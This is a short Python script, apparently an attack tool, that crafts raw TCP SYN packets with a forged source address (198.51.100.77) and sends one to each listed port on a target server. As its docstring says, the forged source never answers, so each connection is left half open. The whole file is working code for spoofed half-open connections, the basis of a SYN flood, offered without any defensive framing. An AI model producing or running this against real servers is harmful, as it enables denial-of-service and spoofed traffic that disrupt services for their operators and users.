"""Opens connections by halves: SYNs from an address where nobody answers. python3 half_open.py SERVER PORT..."""
import random, socket, struct, sys

source, server = '198.51.100.77', sys.argv[1]
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

def checksum(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff

for port in map(int, sys.argv[2:]):
    pseudo = socket.inet_aton(source) + socket.inet_aton(server) + struct.pack('!BBH', 0, 6, 20)
    def tcp(sum_): return struct.pack('!HHIIBBHHH', sport, port, 1000, 0, 5 << 4, 2, 64240, sum_, 0)
    sport = random.randint(32768, 60999)
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, 0, 0, 64, 6, 0, socket.inet_aton(source), socket.inet_aton(server))
    sender.sendto(ip + tcp(checksum(pseudo + tcp(0))), (server, 0))
